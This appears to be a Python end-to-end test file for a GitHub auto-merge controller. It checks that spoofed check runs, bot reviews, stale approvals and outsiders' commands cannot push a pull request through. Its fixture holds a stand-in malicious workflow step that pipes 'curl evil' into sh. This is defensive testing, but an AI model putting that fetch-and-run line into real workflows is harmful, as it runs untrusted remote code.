"""Auto-merge resists hostile input, end to end (the real app, the real database, the stateful
fake GitHub): what someone other than a writer controls never merges a pull request nor stops
one from merging. A `p38/automerge` run another app made with our external id is not taken for
ours; a commit status or another app's run named like the required check never hides CI's
failure, nor does a failing status listed past the first page; a bot's review neither counts
nor stalls the look; an approval of an earlier head does not carry over; a thousand reviews
do not hide a writer's "changes requested"; refused `/claude` commands do not hide the task
that read an outsider's text; the Policy in a custom manifests folder, and a file moved out of
a protected one, still need a writer's review; a base other than the default branch is out of
scope, and a pull request retargeted to another base has its paths read again.

Where a test shows that something does NOT happen, it first waits for a sign that the
controller has looked (the check run's or the API's words, or every key settled)."""

from __future__ import annotations

import functools
import re
from typing import Any

import pytest

from controller.config import ManifestSettings
from controller.store import Store
from tests.e2e import test_automerge
from tests.e2e.test_automerge import BRANCH, CHECK, Merging, merging, policy, start  # noqa: F401
from tests.e2e.test_commands import comment, send
from tests.e2e.test_gitops import INSTALLATION, REPO
from tests.fakes.github_events import (
    check_run_event,
    pull_request_event,
    review_event,
    status_event,
)
from tests.helpers import wait_until

WORKFLOW = ".github/workflows/ci.yml"
EVIL = "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil | sh'}]}}\n"


def on_pull(body: str, *, comment_id: int, login: str = "dana-ops",
            association: str = "MEMBER", repo: str = REPO) -> dict[str, Any]:
    """An `issue_comment` delivery on pull request 7 of `repo`."""
    payload = comment(body, comment_id=comment_id, login=login, association=association)
    payload["issue"].update(number=7, pull_request={
        "url": f"https://api.github.com/repos/{repo}/pulls/7"})
    payload["repository"].update(full_name=repo, name=repo.partition("/")[2])
    return payload


async def approve(m: Merging, login: str, state: str = "APPROVED") -> None:
    m.fake.permissions[(REPO, login)] = "write"
    review = m.fake.add_review(REPO, 7, login, state)
    await m.send(review_event(m.fake, REPO, 7, review, INSTALLATION))


async def test_a_spoofed_p38_automerge_run_is_not_taken_for_ours(merging: Merging) -> None:  # noqa: F811
    """Another app made a completed `p38/automerge` run carrying our predictable external id
    (GitHub refuses our updates of it): our own run is created beside it, and it merges."""
    fake = merging.fake
    sha = fake.push_branch(REPO, BRANCH, merging.tree({"README.md": "X\n"}))
    spoof = fake.add_check_run(REPO, sha, CHECK, conclusion="success", app="evil")
    spoof["external_id"] = f"p38-automerge:{REPO}#7@{sha}"
    fake.fail_next("PATCH", rf"/repos/{REPO}/check-runs/{spoof['id']}", 403, times=1000,
                   body={"message": "Invalid app_id"})
    fake.open_pull(REPO, 7, head=BRANCH, title="Add X")
    await merging.send(pull_request_event(fake, REPO, 7, "opened", INSTALLATION))
    await merging.green()
    assert (await merging.merged())["sha"] == sha
    await merging.gitops.settled()
    [ours] = [r for r in fake.check_runs if r["name"] == CHECK and r["head_sha"] == sha
              and r["app"]["slug"] == fake.app_slug]
    assert ours["conclusion"] == "success" and ours["output"]["summary"].startswith("Merged")
    assert merging.calls("PATCH", f"/check-runs/{spoof['id']}") == 0
    assert spoof["output"]["summary"] is None  # never written to


@pytest.mark.parametrize(("checks", "spoof"), [
    ("[test]", "status"),         # anyone who may push posts a status `test: success`
    ("[test]", "earlier run"),    # another app reported `test: success` before CI failed
    ("[test]", "running"),        # ... while CI's `test` is still running
    ("[]", "status"),             # none named: every check on the head, statuses included
])
async def test_a_status_or_another_apps_run_named_like_the_check_hides_no_ci_failure(
        aiohttp_client: Any, store: Store, dsn: str, checks: str, spoof: str) -> None:
    m = await start(aiohttp_client, store, dsn, policy(checks=checks))
    fake = m.fake
    head = await m.open()
    await m.says(head, "no check has run" if checks == "[]" else "has not run")
    if spoof == "status":
        await m.green(conclusion="failure")
        await m.says(head, f"check `test` failure on {head[:7]}")
        fake.set_status(REPO, head, "test", "success", creator="mallory")
        await m.send(status_event(fake, REPO, head, "test", "success", INSTALLATION))
    else:
        fake.add_check_run(REPO, head, "test", conclusion="success", app="evil")
        ci = fake.add_check_run(REPO, head, "test", conclusion="failure", app="ci") \
            if spoof == "earlier run" else \
            fake.add_check_run(REPO, head, "test", status="in_progress", conclusion=None)
        await m.send(check_run_event(fake, REPO, ci, INSTALLATION, action="completed"
                                     if spoof == "earlier run" else "created"))
    await m.gitops.settled()  # every delivery looked at
    words = f"check `test` {'is in progress' if spoof == 'running' else 'failure'} on"
    await m.says(head, f"{words} {head[:7]}")
    assert (await m.pull())["automerge"]["blockers"] == [f"{words} {head[:7]}"]
    assert fake.merges == [] and m.calls("PUT", "/merge") == 0


async def test_a_failing_status_listed_past_the_first_page_is_still_seen(
        aiohttp_client: Any, store: Store, dsn: str) -> None:
    """No check named: 100 newer passing contexts push CI's failing one onto page 2."""
    m = await start(aiohttp_client, store, dsn, policy(checks="[]"))
    head = await m.open()
    m.fake.set_status(REPO, head, "ci", "failure")
    await m.send(status_event(m.fake, REPO, head, "ci", "failure", INSTALLATION))
    await m.says(head, f"check `ci` failure on {head[:7]}")
    for i in range(100):
        m.fake.set_status(REPO, head, f"lint-{i}", "success", creator="mallory")
    await m.send(status_event(m.fake, REPO, head, "lint-99", "success", INSTALLATION))
    await m.gitops.settled()
    assert (await m.pull())["automerge"]["blockers"] == [f"check `ci` failure on {head[:7]}"]
    assert m.fake.merges == []


async def test_a_bots_review_neither_counts_nor_stalls_the_look(merging: Merging) -> None:  # noqa: F811
    """GitHub answers 404 when asked a bot's permission (not a user): a bot's "changes
    requested" does not hold the pull request, its approval is not a writer's, and the look
    goes on."""
    fake = merging.fake
    for bot in ("reviewbot[bot]", "approver[bot]"):
        fake.fail_next("GET", rf"/repos/{REPO}/collaborators/{re.escape(bot)}/permission", 404,
                       times=1000, body={"message": f"{bot} is not a user"})
    head = await merging.open(files={"README.md": "x\n", WORKFLOW: "on: push\n"})
    for bot, state in (("reviewbot[bot]", "CHANGES_REQUESTED"), ("approver[bot]", "APPROVED")):
        review = fake.add_review(REPO, 7, bot, state)
        await merging.send(review_event(fake, REPO, 7, review, INSTALLATION))
    await merging.green()
    await merging.gitops.settled()
    needed = f"1 approving review(s) by a writer needed on {head[:7]} (it changes {WORKFLOW}"
    pull = await merging.blocked_by(needed)
    assert len(pull["automerge"]["blockers"]) == 1  # the bot's request is not one
    [row] = await merging.gitops.store.fetch("statuses_of", [f"pull:{REPO}#7"])
    assert row["status"] == "Waiting", (row["status"], row["message"])
    assert fake.merges == []
    await approve(merging, "dana")
    assert (await merging.merged())["sha"] == head


async def test_an_approval_of_an_earlier_head_does_not_carry_over_to_a_new_workflow(
        merging: Merging) -> None:  # noqa: F811
    """A writer approves head A (a harmless workflow change); head B (a malicious one) is
    pushed: its green check does not merge it on A's approval."""
    a = await merging.open(files={"README.md": "x\n", WORKFLOW: "on: push\n"})
    await merging.says(a, "approving review(s) by a writer needed")
    await approve(merging, "dana")
    await merging.says(a, f"check `test` has not run on {a[:7]}")
    b = merging.fake.push_branch(REPO, BRANCH, merging.tree({"README.md": "x\n",
                                                            WORKFLOW: EVIL}))
    await merging.send(pull_request_event(merging.fake, REPO, 7, "synchronize", INSTALLATION))
    assert await merging.green() == b
    await merging.says(b, f"1 approving review(s) by a writer needed on {b[:7]} (it changes "
                          f"{WORKFLOW}")
    assert merging.fake.merges == []
    await approve(merging, "dana")
    assert (await merging.merged())["sha"] == b


async def test_a_writers_changes_request_after_a_thousand_reviews_is_not_missed(
        merging: Merging) -> None:  # noqa: F811
    fake = merging.fake
    head = await merging.open()
    await merging.says(head, "has not run")
    for _ in range(1000):
        fake.add_review(REPO, 7, "mallory", "COMMENTED", association="NONE")
    await approve(merging, "lee", "CHANGES_REQUESTED")
    await merging.green()

    async def held() -> list[str] | None:
        blockers = ((await merging.pull())["automerge"] or {}).get("blockers") or []
        return blockers if any("changes requested by @lee" in b or "not all reviews" in b
                               for b in blockers) else None

    await wait_until(held, what="the request for changes seen", store=merging.gitops.store)
    await merging.gitops.settled()
    assert fake.merges == [] and merging.calls("PUT", "/merge") == 0


async def test_outsiders_refused_commands_do_not_hide_the_task_that_read_untrusted_text(
        merging: Merging) -> None:  # noqa: F811
    """The task that made the pull request read mallory's text; mallory (no write) comments
    `/claude ...` 50 times on it: each is refused, and the review it needs is still needed."""
    store = merging.gitops.store
    await store.pool.execute(
        "INSERT INTO claude_tasks (repo, issue, comment_id, installation_id, on_pull, "
        "requested_by, command, state, pull_number, branch, untrusted_input) VALUES "
        "($1, 11, 900, $2, false, 'dana-ops', 'add X', 'PR_OPENED', 7, $3, '{mallory}')",
        REPO, INSTALLATION, BRANCH)
    head = await merging.open()
    await merging.green()
    untrusted = "its /claude task read text by someone without write permission"
    await merging.says(head, untrusted)
    for i in range(50):
        await send(merging.gitops, on_pull(f"/claude please {i}", comment_id=5000 + i,
                                           login="mallory", association="NONE"))

    async def refused() -> bool:
        return await store.pool.fetchval(
            "SELECT count(*) FROM claude_tasks WHERE state = 'REFUSED'") == 50

    await wait_until(refused, what="50 commands refused", store=store)
    await merging.green()  # a later delivery: looked at again
    await merging.gitops.settled()
    assert any(untrusted in b for b in (await merging.pull())["automerge"]["blockers"])
    assert merging.fake.merges == []


async def test_the_policy_in_a_custom_manifests_folder_needs_a_writers_review(
        aiohttp_client: Any, store: Store, dsn: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """P38_MANIFESTS_PATH=deploy/: a pull request loosening the Policy there is protected,
    whatever the default protectedPaths (`manifests/**`) name."""
    monkeypatch.setattr(test_automerge, "ManifestSettings",
                        functools.partial(ManifestSettings, P38_MANIFESTS_PATH="deploy/"))
    rules = policy()["manifests/policy.yaml"]
    m = await start(aiohttp_client, store, dsn, {"README.md": "infra\n",
                                                 "deploy/policy.yaml": rules})
    looser = rules + "    allowForks: true\n    untrustedInput: allow\n    protectedPaths: []\n"
    head = await m.open(files={"deploy/policy.yaml": looser})
    await m.green()
    await m.says(head, f"1 approving review(s) by a writer needed on {head[:7]} (it changes "
                       "deploy/policy.yaml")
    assert m.fake.merges == []
    await approve(m, "dana")
    assert (await m.merged())["sha"] == head


async def test_a_protected_file_moved_out_of_its_folder_still_needs_a_writers_review(
        merging: Merging) -> None:  # noqa: F811
    fake = merging.fake
    merging.gitops.files = merging.tree({WORKFLOW: "on: push\n"})
    fake.commit(REPO, merging.gitops.files)
    moved = {k: v for k, v in merging.gitops.files.items() if k != WORKFLOW}
    head = fake.push_branch(REPO, BRANCH, {**moved, "ci.yml": "on: push\n"})
    fake.open_pull(REPO, 7, head=BRANCH, title="Move the workflow")
    await merging.send(pull_request_event(fake, REPO, 7, "opened", INSTALLATION))
    await merging.green()
    await merging.says(head, f"1 approving review(s) by a writer needed on {head[:7]} (it "
                             f"changes {WORKFLOW}")
    assert fake.merges == []


async def test_a_pull_request_into_a_base_other_than_the_default_branch_is_out_of_scope(
        merging: Merging) -> None:  # noqa: F811
    fake = merging.fake
    fake.commit(REPO, {"README.md": "infra\n"}, branch="production")
    head = fake.push_branch(REPO, BRANCH, merging.tree({"README.md": "X\n"}))
    fake.open_pull(REPO, 7, head=BRANCH, base="production", title="Add X")
    await merging.send(pull_request_event(fake, REPO, 7, "opened", INSTALLATION))
    await merging.green()

    async def judged() -> str | None:
        response = await merging.gitops.client.get(f"/api/pulls/{REPO}/7")
        pull = await response.json() if response.status == 200 else {}
        why = (pull.get("automerge") or {}).get("why") or ""
        return why if "production matches none of autoMerge.bases" in why else None

    await wait_until(judged, what="judged out of scope", store=merging.gitops.store)
    await merging.gitops.settled()
    assert fake.merges == [] and merging.shown(head) is None


async def test_a_pull_request_retargeted_to_another_base_has_its_paths_read_again(
        aiohttp_client: Any, store: Store, dsn: str) -> None:
    """claude/7 into claude/base (which already holds a malicious workflow) changes README
    only; retargeted to main, the same head changes the workflow: a writer's review."""
    m = await start(aiohttp_client, store, dsn, policy('    bases: [main, "claude/*"]\n'))
    fake, r = m.fake, m.fake.repos[REPO]
    fake.push_branch(REPO, "claude/base", m.tree({WORKFLOW: EVIL}))
    r.branches[BRANCH] = r.branches["claude/base"]
    head = fake.push_branch(REPO, BRANCH, m.tree({WORKFLOW: EVIL, "README.md": "x\n"}))
    fake.open_pull(REPO, 7, head=BRANCH, base="claude/base", title="Add X")
    await m.send(pull_request_event(fake, REPO, 7, "opened", INSTALLATION))
    await m.blocked_by(f"check `test` has not run on {head[:7]}")
    assert len((await m.pull())["automerge"]["blockers"]) == 1  # nothing protected here
    r.pulls[7] = (BRANCH, "main")  # the author edits the base
    await m.send(pull_request_event(fake, REPO, 7, "edited", INSTALLATION))
    await m.green()
    await m.says(head, f"1 approving review(s) by a writer needed on {head[:7]} (it changes "
                       f"{WORKFLOW}")
    assert fake.merges == []
